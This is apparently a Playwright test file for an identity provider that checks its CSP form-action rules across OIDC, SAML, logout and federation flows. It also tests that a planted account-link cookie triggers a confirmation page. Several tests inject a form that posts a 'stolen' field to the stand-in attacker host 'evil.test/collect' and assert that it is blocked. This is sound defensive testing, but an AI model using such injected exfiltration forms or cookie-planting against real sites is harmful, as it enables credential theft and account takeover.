import fs from 'node:fs';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import request from 'supertest';
import { checkAccessible } from '../helpers/accessibility';
import { launchChromium } from '../helpers/ensure-chromium';
import { makeClient, makeSignedInUser, makeUser, uniqueEmail } from '../helpers/factories';
import { authorizeParams, createListeningTestApp } from '../helpers/oauth';
import { authnRequestXml, createSamlApp, makeTestSp, redirectQuery } from '../helpers/saml';
import type { TestApp } from '../helpers/test-app';
import { addProvider, startAndAuthorize, startUpstreamOidc, type UpstreamOidc } from '../helpers/upstream';

/**
 * Issue 30: every page's CSP says `form-action 'self'`, widened only by what the page's forms end at after the server's
 * redirects. Chromium checks form-action against each redirect that follows a form submission, so these flows are run
 * in a real Chromium to the end: a blocked redirect would leave the browser on an error page, never at the target.
 * The other origins (a client, an SP, another site) are answered by Playwright's routing; the upstream OpenID
 * provider is a real one on another port.
 */
let t: TestApp;
let baseUrl: string;
let stop: () => Promise<void>;
let browser: Browser;
let upstream: UpstreamOidc;

beforeAll(async () => {
  ({ t, baseUrl, stop } = await createListeningTestApp({ IDP_ALLOW_PRIVATE: 'true' }));
  upstream = await startUpstreamOidc([`${baseUrl}/api/auth/idp/corp/callback`]);
  const admin = await makeSignedInUser(t, ['super_admin']);
  await addProvider(t, admin.accessToken, {
    slug: 'corp',
    name: 'Corp SSO',
    type: 'oidc',
    issuer: upstream.issuer,
    client_id: upstream.clientId,
    client_secret: upstream.clientSecret,
  });
  browser = await launchChromium();
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await upstream?.stop();
  await stop?.();
});

/** A fresh browser whose requests to `origin` are answered (and recorded) by the test. */
async function browserReaching(
  origin: string,
): Promise<{ context: BrowserContext; page: Page; reached: Array<{ url: URL; body: string }> }> {
  const context = await browser.newContext();
  const page = await context.newPage();
  const reached: Array<{ url: URL; body: string }> = [];
  await page.route(`${origin}/**`, async (route) => {
    reached.push({ url: new URL(route.request().url()), body: route.request().postData() ?? '' });
    await route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>Elsewhere</title><h1>Arrived</h1>' });
  });
  return { context, page, reached };
}

async function signIn(page: Page, email: string, password: string): Promise<void> {
  await page.getByLabel('Email address').fill(email);
  await page.getByLabel('Password').fill(password);
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
}

const arrived = (page: Page) => page.getByRole('heading', { name: 'Arrived' }).waitFor();

test('OIDC code flow: the login and consent forms end at the redirect URI on another origin; with the grant, the login form goes straight there', async () => {
  const user = await makeUser(t);
  const client = await makeClient(t, { name: 'Wiki', redirectUris: ['https://wiki.test/callback'] });
  const first = await browserReaching('https://wiki.test');
  try {
    const { params, state } = authorizeParams(client);
    await first.page.goto(`${baseUrl}/api/oauth/authorize?${new URLSearchParams(params)}`);
    await signIn(first.page, user.email, user.password);
    await first.page.getByRole('button', { name: 'Approve' }).click();
    await arrived(first.page);
    expect(first.reached[0]!.url.searchParams.get('state')).toBe(state);
    expect(first.reached[0]!.url.searchParams.get('code')).toBeTruthy();
  } finally {
    await first.context.close();
  }

  // The grant exists now: POST /login -> 303 /authorize -> 302 to the client, all following the login form's post.
  const second = await browserReaching('https://wiki.test');
  try {
    const { params, state } = authorizeParams(client);
    await second.page.goto(`${baseUrl}/api/oauth/authorize?${new URLSearchParams(params)}`);
    await signIn(second.page, user.email, user.password);
    await arrived(second.page);
    expect(second.reached[0]!.url.origin + second.reached[0]!.url.pathname).toBe('https://wiki.test/callback');
    expect(second.reached[0]!.url.searchParams.get('state')).toBe(state);
  } finally {
    await second.context.close();
  }
});

test('RP-initiated logout: the confirmation form ends at the registered post_logout_redirect_uri', async () => {
  const user = await makeUser(t);
  const client = await makeClient(t, { name: 'Wiki', postLogoutRedirectUris: ['https://wiki.test/signed-out'] });
  const { context, page, reached } = await browserReaching('https://wiki.test');
  try {
    await page.goto(`${baseUrl}/login`);
    await signIn(page, user.email, user.password);
    await page.getByRole('heading', { name: /signed in/ }).waitFor();
    const query = new URLSearchParams({
      client_id: client.clientId,
      post_logout_redirect_uri: 'https://wiki.test/signed-out',
      state: 'bye',
    });
    await page.goto(`${baseUrl}/api/oauth/logout?${query}`);
    await page.getByRole('heading', { name: 'Sign out?' }).waitFor();
    await page.getByRole('button', { name: 'Sign out' }).click();
    await arrived(page);
    expect(reached[0]!.url.href).toBe('https://wiki.test/signed-out?state=bye');
  } finally {
    await context.close();
  }
});

test("SAML: sign-in through /login, then /saml/continue's auto-POST form reaches the SP's ACS URL", async () => {
  const admin = await makeSignedInUser(t, ['admin']);
  const sp = makeTestSp();
  await createSamlApp(t, admin.bearer, sp);
  const user = await makeUser(t);
  const { context, page, reached } = await browserReaching(new URL(sp.acsUrl).origin);
  try {
    await page.goto(`${baseUrl}/saml/sso?${redirectQuery(authnRequestXml(t, sp).xml, 'relay-1')}`);
    await signIn(page, user.email, user.password);
    await arrived(page);
    expect(reached[0]!.url.href).toBe(sp.acsUrl);
    const posted = new URLSearchParams(reached[0]!.body);
    expect(posted.get('SAMLResponse')).toBeTruthy();
    expect(posted.get('RelayState')).toBe('relay-1');
  } finally {
    await context.close();
  }
});

test("federation: /account's link form ends at the upstream provider's authorization endpoint and comes back linked", async () => {
  const user = await makeUser(t);
  const sub = `fa-${user.id}`;
  upstream.accounts.set(sub, { sub, email: uniqueEmail('fa-upstream'), email_verified: true });
  upstream.signInAs(sub);
  const context = await browser.newContext();
  const page = await context.newPage();
  try {
    await page.goto(`${baseUrl}/login?${new URLSearchParams({ return_to: `${baseUrl}/account` })}`);
    await signIn(page, user.email, user.password);
    const section = page.getByRole('region', { name: 'Linked sign-ins' });
    await section.getByRole('button', { name: 'Link Corp SSO' }).click();
    // Through the provider (another origin) and back to /account, the identity listed.
    await page.waitForURL((url) => url.pathname === '/account' && url.searchParams.get('done') === 'identity_linked');
    await section.getByText('Corp SSO').first().waitFor();
    expect(await t.db('user_identities').where({ user_id: user.id, subject: sub })).toHaveLength(1);
  } finally {
    await context.close();
  }
});

test('federation: "Continue with Corp SSO" on /login starts the round trip at the provider', async () => {
  const sub = `fa-login-${Date.now()}`;
  const email = uniqueEmail('fa-login');
  upstream.accounts.set(sub, { sub, email, email_verified: true });
  upstream.signInAs(sub);
  const context = await browser.newContext();
  const page = await context.newPage();
  try {
    await page.goto(`${baseUrl}/login`);
    await page.getByRole('link', { name: 'Continue with Corp SSO' }).click();
    await page.getByRole('heading', { name: /signed in/ }).waitFor();
    expect(await t.db('users').where({ email }).first()).toBeDefined();
  } finally {
    await context.close();
  }
});

describe('a form posting anywhere else is blocked', () => {
  /** Adds a form to the page that posts to `action`, submits it, and reports what Chromium said. */
  async function submitForeignForm(page: Page, action: string): Promise<string[]> {
    return page.evaluate(async (target) => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
      const form = document.createElement('form');
      form.method = 'post';
      form.action = target;
      form.innerHTML = '<input name="stolen" value="1">';
      document.body.append(form);
      form.submit();
      // Until the first report (a loaded machine can take a while), then a moment for any other.
      const deadline = Date.now() + 5000;
      while (violations.length === 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
      await new Promise((resolve) => setTimeout(resolve, 500));
      return violations;
    }, action);
  }

  test('on the sign-in page of an authorization: the client may be reached, another site may not', async () => {
    const client = await makeClient(t, { redirectUris: ['https://wiki.test/callback'] });
    const { context, page, reached } = await browserReaching('https://evil.test');
    try {
      await page.goto(`${baseUrl}/api/oauth/authorize?${new URLSearchParams(authorizeParams(client).params)}`);
      await page.getByRole('heading', { name: 'Sign in' }).waitFor();
      const violations = await submitForeignForm(page, 'https://evil.test/collect');
      expect(violations).toEqual(['form-action https://evil.test/collect']);
      expect(reached).toHaveLength(0);
      expect(new URL(page.url()).pathname).toBe('/login');
    } finally {
      await context.close();
    }
  });

  test('on the account page (widened only for the provider its link form reaches)', async () => {
    const user = await makeUser(t);
    const { context, page, reached } = await browserReaching('https://evil.test');
    try {
      await page.goto(`${baseUrl}/login`);
      await signIn(page, user.email, user.password);
      await page.goto(`${baseUrl}/account`);
      const violations = await submitForeignForm(page, 'https://evil.test/collect');
      expect(violations).toEqual(['form-action https://evil.test/collect']);
      expect(reached).toHaveLength(0);
    } finally {
      await context.close();
    }
  });
});

test('a planted pending link: after signing in, the confirmation page (axe-clean, en and de); either button goes on', async () => {
  const victim = await makeUser(t);
  const client = await makeClient(t, { name: 'Wiki', redirectUris: ['https://wiki.test/callback'] });
  // The attacker's upstream account asserts the victim's address: a pending link whose cookie they plant.
  const plant = async (sub: string) => {
    upstream.accounts.set(sub, { sub, email: victim.email, email_verified: true });
    upstream.signInAs(sub);
    const attacker = request.agent(t.app);
    const planted = await attacker.get((await startAndAuthorize(attacker, 'corp')).callbackPath);
    return /idp_link=([^;]+)/.exec(String(planted.headers['set-cookie']))![1]!;
  };

  const shots = '/tmp/shots/trust';
  fs.mkdirSync(shots, { recursive: true });
  for (const locale of ['en', 'de']) {
    const token = await plant(`planted-${locale}-${victim.id}`);
    const { context, page } = await browserReaching('https://wiki.test');
    try {
      await context.setExtraHTTPHeaders({ 'Accept-Language': locale });
      await context.addCookies([{ name: 'idp_link', value: token, url: baseUrl }]);
      const { params } = authorizeParams(client);
      await page.goto(`${baseUrl}/api/oauth/authorize?${new URLSearchParams({ ...params, ui_locales: locale })}`);
      await page.fill('#email', victim.email);
      await page.fill('#password', victim.password);
      await page.click('form[action="/login"] button[type=submit]');
      await page.waitForURL((url) => url.pathname === '/login/link');
      expect(await page.textContent('main')).toContain(
        locale === 'en' ? `Link Corp SSO account ${victim.email}` : `Corp SSO-Konto ${victim.email}`,
      );
      await checkAccessible(page, `pending-link-confirm-${locale}`, shots);
      if (locale === 'en') {
        await page.getByRole('button', { name: "Don't link" }).click();
        await page.waitForURL((url) => url.pathname === '/consent');
        expect(await t.db('user_identities').where({ user_id: victim.id })).toHaveLength(0);
      } else {
        await page.getByRole('button', { name: 'Verknüpfen', exact: true }).click();
        await page.waitForURL((url) => url.pathname === '/consent');
        expect(await t.db('user_identities').where({ user_id: victim.id, subject: `planted-de-${victim.id}` })).toHaveLength(1);
      }
    } finally {
      await context.close();
    }
  }
});
